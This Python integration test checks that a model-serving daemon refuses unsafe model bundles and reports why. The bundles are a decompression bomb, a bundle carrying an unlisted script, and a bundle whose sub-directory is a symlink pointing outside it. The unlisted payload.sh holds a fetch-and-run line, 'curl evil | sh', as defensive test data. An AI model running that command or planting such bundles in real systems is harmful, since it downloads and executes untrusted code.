"""Unusable bundles in models_dir, through a real daemon (issue 15, defects 4, 8
and 9): an archive bomb is refused while unpacking (and never served), unlisted
files and symlinked sub-directories are refused outside OTA too, and each
refused bundle is in POST /v2/repository/index and its metadata with the reason."""

from __future__ import annotations

import shutil

from edged.bundle import open_bundle, pack_bundle, write_bundle
from tests.helpers import start_daemon
from tests.bombs import make_bomb as _bomb
from tests.unit.tiny_model import write_tiny_bundle


def test_refused_bundles_never_serve_and_say_why(tmp_path, demo_bundles):
    models = tmp_path / "models"
    models.mkdir()
    shutil.copytree(demo_bundles / "digits-onnx", models / "digits-onnx")
    _bomb(tmp_path, 64 * 2**20).rename(models / "bomb.tar.gz")  # < 1 MiB -> 64 MiB

    extra = write_tiny_bundle(tmp_path / "src-extra", name="extra")
    (extra.root / "payload.sh").write_text("#!/bin/sh\ncurl evil | sh\n")
    pack_bundle(extra.root, models / "extra-1.0.0.tar.gz")

    source = write_tiny_bundle(tmp_path / "src-linked", name="linked")
    manifest = source.manifest
    manifest.model_file = "sub/model.onnx"
    inputs, outputs = source.load_samples()
    linked = write_bundle(models / "linked", manifest, {"sub/model.onnx": source.root / "model.onnx"}, inputs, outputs)
    open_bundle(linked.root)
    (linked.root / "sub").rename(tmp_path / "outside")
    (linked.root / "sub").symlink_to(tmp_path / "outside", target_is_directory=True)

    daemon = start_daemon(tmp_path / "d", models)
    try:
        status, rows = daemon.post("/v2/repository/index", {})
        assert status == 200, rows
        by_name = {row["name"]: row for row in rows}
        assert by_name["digits-onnx"]["state"] == "READY"
        expected = {"bomb": "archive bomb", "extra": "not listed in the manifest: payload.sh",
                    "linked": "sub is a symlink"}
        for name, words in expected.items():
            assert by_name[name]["state"] == "FAILED" and words in by_name[name]["reason"], by_name[name]
            status, meta = daemon.get(f"/v2/models/{name}")
            assert status == 200 and meta["state"] == "FAILED" and words in meta["reason"], meta
            status, body = daemon.post(f"/v2/models/{name}/infer", {
                "inputs": [{"name": "input", "shape": [1, 4], "datatype": "FP32", "data": [0.0] * 4}]})
            assert status == 503, body
        unpacked = tmp_path / "d" / "state" / "unpacked"
        on_disk = sum(p.stat().st_size for p in unpacked.rglob("*") if p.is_file()) if unpacked.exists() else 0
        assert on_disk < 16 * 2**20, on_disk  # the bomb never expanded to its 64 MiB
        status, _ = daemon.post("/v2/models/digits-onnx/infer", {
            "inputs": [{"name": "input", "shape": [1, 1, 8, 8], "datatype": "FP32", "data": [0.0] * 64}]})
        assert status == 200
    finally:
        daemon.stop()
